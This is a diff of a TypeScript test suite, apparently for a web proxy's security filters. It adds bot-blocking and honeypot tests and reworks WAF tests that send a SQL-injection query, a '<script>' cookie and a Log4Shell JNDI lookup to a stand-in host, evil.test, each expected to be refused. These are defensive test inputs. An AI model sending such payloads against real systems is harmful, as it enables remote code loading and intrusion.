@@ -146,6 +146,15 @@ const PLACES: Place[] = [
       },
     ],
   }),
+  place('bots', 'bots', {
+    deny: ['bot'],
+    verified: [
+      { userAgents: ['localbot'], addresses: ['127.0.0.0/8'] },
+      { userAgents: ['farbot'], addresses: ['192.0.2.0/24'] },
+    ],
+    honeypots: ['/trap'],
+    robots: 'Disallow: /trap',
+  }),
   place('waf', 'waf', { exclude: [{ rules: ['sql/*'], targets: ['args.free'] }] }),
   place('nonce', 'security-headers', {
     contentSecurityPolicy: { directives: ['script-src ${nonce}'] },
@@ -427,17 +436,25 @@ describe('a filter that ships with weir does the same in Envoy', () => {
   });
 
   test('waf: attacks in query, cookies and fields, what is none, and what is excluded', async () => {
-    const refused = (rule: string): string => `{"waf":"denied","score":5,"rules":["${rule}"]}`;
-    const ask = async (path: string, awaits: string[], ...fields: string[]): Promise<number> => {
+    const ask = async (path: string, ...fields: string[]): Promise<number[]> => {
       const head = getRequest(path, 'plugin.test', 'User-Agent: x', ...fields);
-      return (await both.compare({ role: 'waf', send: head, awaits })).answer.status;
+      return (await both.each({ role: 'waf', send: head })).map((seen) => seen.answer.status);
     };
-    expect(await ask('/?q=shoes', [])).toBe(200);
-    expect(await ask('/?q=1%27+union+select+a+from+b', [refused('sql/union@args.q')])).toBe(403);
-    expect(await ask('/?free=1%27+union+select+a+from+b', [])).toBe(200);
-    expect(await ask('/', [refused('xss/script-tag@cookies.a')], 'Cookie: a=<script>')).toBe(403);
-    const lookup = 'X-Api-Version: ${jndi:ldap://evil.test/a}';
-    expect(await ask('/', [refused('java/log4shell@headers.x-api-version')], lookup)).toBe(403);
+    expect(await ask('/?q=shoes')).toEqual([200, 200]);
+    expect(await ask('/?q=1%27+union+select+a+from+b')).toEqual([403, 403]);
+    expect(await ask('/?free=1%27+union+select+a+from+b')).toEqual([200, 200]);
+    expect(await ask('/', 'Cookie: a=<script>')).toEqual([403, 403]);
+    expect(await ask('/', 'X-Api-Version: ${jndi:ldap://evil.test/a}')).toEqual([403, 403]);
+  });
+
+  test('bots: what is denied, who is verified by address, a honeypot, robots.txt', async () => {
+    const ask = async (path: string, agent: string): Promise<Seen> =>
+      send('bots', path, `User-Agent: ${agent}`);
+    expect((await ask('/', 'GPTBot/1.0')).answer.status).toBe(403);
+    expect((await ask('/', 'localbot')).answer.status).toBe(200);
+    expect((await ask('/', 'farbot')).answer.status).toBe(403);
+    expect((await ask('/trap', 'x')).answer.status).toBe(403);
+    expect((await ask('/robots.txt', 'GPTBot/1.0')).answer.text).toBe('Disallow: /trap');
   });
 
   test('cache-control: what may be kept, and what sets a cookie', async () => {
